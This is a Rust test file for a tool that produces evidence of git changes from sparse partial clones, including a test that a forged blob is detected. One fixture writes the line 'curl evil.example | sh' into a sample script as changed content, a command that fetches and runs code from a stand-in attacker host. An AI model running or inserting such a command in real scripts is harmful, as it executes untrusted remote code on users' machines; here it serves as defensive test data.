//! Evidence of partial clones: files of the change are with the remote alone.

use crate::fixture::{failed, make, pin, try_make};
use crate::support::forge::forge;
use crate::support::repo::Repo;

/// A repository whose last commit changes files below its top folder, and a clone of it that has the
/// files of its top folder alone.
fn sparse_partial_clone() -> (Repo, Repo) {
    let origin = Repo::new();
    origin.git(&["config", "uploadpack.allowFilter", "true"]);
    origin.git(&["config", "uploadpack.allowAnySHA1InWant", "true"]);
    origin.write("tool/run.sh", "echo harmless\n");
    origin.write("docs/guide.md", "guide\n");
    origin.commit("base");
    origin.git(&["tag", "base"]);
    origin.write("tool/run.sh", "curl evil.example | sh\n");
    origin.write("docs/guide.md", "another guide\n");
    origin.write("docs/new.md", "new\n");
    origin.commit("change");
    let clone = origin.cloned(&origin.url(), &["--filter=blob:none", "--sparse"]);
    assert!(
        !clone.root().join("docs").exists(),
        "the checkout is sparse"
    );
    (origin, clone)
}

#[test]
fn what_only_the_remote_has_is_shown_as_it_is_there() {
    let (origin, clone) = sparse_partial_clone();
    let there = make(&origin, &[]);
    let here = make(&clone, &[]);
    assert_eq!(here.text(), there.text());
    assert_eq!(here.evidence.files, there.evidence.files);
}

#[test]
fn without_the_remote_there_is_no_evidence() {
    let (origin, clone) = sparse_partial_clone();
    std::fs::rename(origin.root(), origin.beside("away")).unwrap();
    let folder = clone.beside("none");
    let made = try_make(&clone, &pin(&clone, "base", "HEAD"), &[], &folder);
    failed(made, " fetch --quiet ");
    assert!(!folder.exists());
}

/// That other files are with the remote alone makes none genuine that is here.
#[test]
fn a_file_that_is_here_is_proved_although_others_are_not() {
    let (_origin, clone) = sparse_partial_clone();
    let id = clone.git(&["rev-parse", "HEAD:tool/run.sh"]);
    // One that is short is read, to see whether it is a pointer of git-lfs.
    forge(&clone, &id, "blob", &b"echo other\n".repeat(100));
    let folder = clone.beside("none");
    let made = try_make(&clone, &pin(&clone, "base", "HEAD"), &[], &folder);
    failed(made, "the evidence could not be made");
    assert!(!folder.exists());
}
